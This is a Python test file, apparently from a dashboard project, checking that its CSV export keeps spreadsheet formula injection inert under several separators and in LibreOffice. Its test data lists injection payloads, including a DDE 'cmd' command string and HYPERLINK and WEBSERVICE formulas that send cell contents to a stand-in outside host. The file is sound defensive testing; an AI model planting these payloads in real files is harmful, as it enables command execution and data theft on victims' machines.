"""No text of a download is a formula to a spreadsheet, whichever separator it is set to."""

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.exports.inert import csv_bytes, inert, inert_array

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://other.example/?"&A1,"x")',
    '=WEBSERVICE("http://other.example")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "a;=1+1;b",
    'a";=1+1;"b',
    "a\t=1+1",
    "a|=1+1",
    "a,=1+1",
    "a\n=1+1",
    "a; \t=1+1",
    "DDE|=1+1",
)
_STARTS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def _inert(table: pd.DataFrame) -> None:
    """Read as spreadsheets do that are set to these separators: no cell begins like a formula."""
    text = csv_bytes(table).decode("utf-8-sig")
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                start = cell.strip(" \t\r\n")
                assert not start.startswith(_STARTS) or re.fullmatch(r"-?\d+(\.\d+)?", start), (separator, start)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_in_a_cell_a_header_and_a_category(text: str) -> None:
    _inert(pd.DataFrame({"Place": [text, "Wick"], "Incidents": [-3, 4], "Change": [-0.5, 1.5]}))
    _inert(pd.DataFrame({text: ["a", "b"]}))
    _inert(pd.DataFrame({"Place": pd.Categorical([text, "Wick"])}))
    _inert(pd.DataFrame({"Count": pd.Series([4, text], dtype=object)}))


@given(st.lists(st.text(st.sampled_from("=+-@;,|\t\r\n \"'ab1\uff1d")), min_size=1, max_size=4))
def test_no_text_becomes_a_formula(texts: list[str]) -> None:
    _inert(pd.DataFrame({"Place": texts}))


@given(st.lists(st.none() | st.text(st.sampled_from("=+-@;,|\t\r\n \"'ab1\uff1d")), max_size=6))
def test_a_large_export_guards_the_same_texts_as_a_small_one(texts: list[str | None]) -> None:
    guarded = inert_array(pa.array(texts, pa.string())).to_pylist()
    assert guarded == [None if text is None else inert(pd.Series([text], dtype="str"))[0] for text in texts]


def test_other_text_and_numbers_are_as_they_were() -> None:
    table = pd.DataFrame(
        {"Place": ["Wick, north", None, "A-B"], "Incidents": [-3, 0, 1200], "Share": [0.5, None, -1.0]}
    )
    assert csv_bytes(table).decode("utf-8-sig").splitlines() == [
        "Place,Incidents,Share", '"Wick, north",-3,0.5', ",0,", "A-B,1200,-1.0",
    ]  # fmt: skip


@pytest.mark.full
def test_libreoffice_sees_no_formula(tmp_path: Path) -> None:
    """The download really opened by a spreadsheet, with each separator: of the unguarded text it makes formulas."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed here")
    table = pd.DataFrame({"Place": FORMULAS, "Incidents": range(len(FORMULAS))})
    files = {"guarded": csv_bytes(table), "bare": table.to_csv(index=False).encode("utf-8-sig")}
    for separator in (44, 59, 9, 124):
        found = {}
        for name, content in files.items():
            path = tmp_path / f"{name}-{separator}.csv"
            path.write_bytes(content)
            command = [office, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to", "fods",
                       f"--infilter=Text - txt - csv (StarCalc):{separator},34,76,1,,0,false,true,false,false",
                       "--outdir", str(tmp_path), str(path)]  # fmt: skip
            subprocess.run(command, check=True, capture_output=True, timeout=120)
            made = path.with_suffix(".fods").read_text(encoding="utf-8")
            assert "Wick" in made or "cmd" in made
            found[name] = len(re.findall("table:formula=", made))
        assert found["guarded"] == 0, (separator, found)
        assert found["bare"] > 0, (separator, found)
